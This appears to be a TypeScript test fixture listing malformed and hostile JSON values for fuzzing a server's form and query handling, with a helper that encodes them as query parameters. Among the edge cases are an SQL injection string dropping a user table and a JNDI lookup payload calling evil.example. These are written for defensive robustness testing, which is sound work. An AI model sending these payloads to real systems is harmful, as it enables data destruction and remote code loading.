/** JSON values that no form sends. */
export const hostileValues: readonly unknown[] = [
  "",
  " ",
  "0",
  "-1",
  0,
  -1,
  1.5,
  1e9,
  1e300,
  9007199254740993n.toString(),
  "99999999999999999999",
  "NaN",
  null,
  true,
  {},
  [],
  [[]],
  { toString: "x", length: -1 },
  { length: { toString: 1, valueOf: 1 } },
  ["1", "2"],
  "x".repeat(100_000),
  "题".repeat(2000),
  "👩‍👩‍👧‍👦\u202e\u0007",
  "a\0b",
  "\ud800",
  "'; drop table app_user; --",
  "%_\\",
  "${jndi:ldap://evil.example/a} {0} {{x}} <script>",
  "__proto__",
  "constructor",
];

/**
 * A value in the form in which the server reads it from a query: a string or a list of strings. An object is sent as a
 * field with another name (`field[x]`). Returns undefined if the value cannot be sent in a query.
 */
export function asQuery(field: string, value: unknown): Record<string, unknown> | undefined {
  if (typeof value === "object" && value !== null && !Array.isArray(value)) {
    return { [`${field}[x]`]: "1" };
  }
  const texts = Array.isArray(value) ? value.map(String) : [String(value)];
  if (!texts.join("").isWellFormed() || texts.length === 0) return undefined;
  return { [field]: texts.length === 1 ? texts[0] : texts };
}
